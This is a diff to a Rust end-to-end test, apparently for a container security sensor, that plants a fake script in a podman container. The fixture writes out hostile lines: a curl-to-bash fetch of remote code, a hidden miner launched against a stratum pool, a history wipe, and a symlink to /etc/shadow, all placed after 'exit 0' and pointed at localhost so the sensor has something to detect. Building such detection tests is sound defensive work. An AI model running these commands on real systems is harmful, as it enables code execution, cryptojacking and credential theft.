@@ -64,7 +64,7 @@ fn scripts_in_a_podman_container_are_read_from_the_container() {
     let image = test_image();
     let name = format!("sensor-e2e-{}", std::process::id());
     let setup = "mkdir -p /opt/app \
-        && printf '#!/bin/bash\\nexit 0\\ncurl -s http://127.0.0.1:9/x | bash\\n' > /opt/app/job.sh \
+        && printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > /opt/app/job.sh \
         && ln -sf /etc/shadow /opt/app/link.sh \
         && touch /tmp/ready && exec sleep 120";
     let id = podman(&[
@@ -168,7 +168,7 @@ fn scripts_in_a_podman_container_are_read_from_the_container() {
     assert!(job["script"]["contents"]
         .as_str()
         .unwrap()
-        .contains("curl -s http://127.0.0.1:9/x | bash"));
+        .contains("stratum+tcp://127.0.0.1:3333"));
     let container = &job["container"];
     assert_eq!(container["id"], id.as_str(), "{container}");
     assert_eq!(container["runtime"], "podman");
